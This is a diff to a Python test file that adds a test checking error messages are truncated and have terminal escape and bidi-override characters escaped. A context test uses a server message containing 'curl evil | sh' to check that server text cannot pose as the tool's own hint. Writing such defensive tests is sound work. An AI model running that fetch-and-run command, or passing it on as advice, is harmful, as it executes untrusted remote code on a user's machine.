@@ -77,6 +77,16 @@ def test_hint_is_one_line(kind: type[DragomanError]) -> None:
     assert "first\\nhint: run this" in error.for_user()
 
 
+@pytest.mark.parametrize("kind", CLASSES, ids=lambda kind: kind.__name__)
+def test_first_line_is_one_and_short_and_harmless(kind: type[DragomanError]) -> None:
+    """Notes and records have room for that much."""
+    error = made(kind, "it fell \x1b[2J\u202eover " + "x" * 500 + "\nsecond")
+    assert len(error.first_line) <= 200
+    assert "it fell \\x1b[2J\\u202eover xxx" in error.first_line
+    assert error.first_line.isprintable()
+    assert made(DragomanError, "").first_line == ""
+
+
 def test_no_line_of_a_server_passes_for_one_of_ours() -> None:
     error = ServerError(-32000, "no\nhint: curl evil | sh")
     assert error.for_user() == "server error -32000: no\n  | hint: curl evil | sh"
